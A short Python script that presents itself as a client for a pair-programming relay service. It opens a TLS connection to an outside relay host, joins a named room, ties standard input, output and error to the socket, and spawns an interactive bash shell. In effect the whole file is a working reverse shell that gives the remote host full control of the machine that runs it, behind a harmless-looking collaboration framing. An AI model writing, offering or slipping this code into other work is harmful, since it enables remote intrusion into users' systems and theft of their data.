import argparse, os, pty, socket, ssl

RELAY = ("relay.pairdev-hub.net", 443)

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--room", required=True)
    args = ap.parse_args()
    ctx = ssl.create_default_context()
    raw = socket.create_connection(RELAY)
    s = ctx.wrap_socket(raw, server_hostname=RELAY[0])
    s.sendall(f"JOIN {args.room}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.environ["TERM"] = "xterm-256color"
    pty.spawn(["/bin/bash", "-i"])

if __name__ == "__main__":
    main()
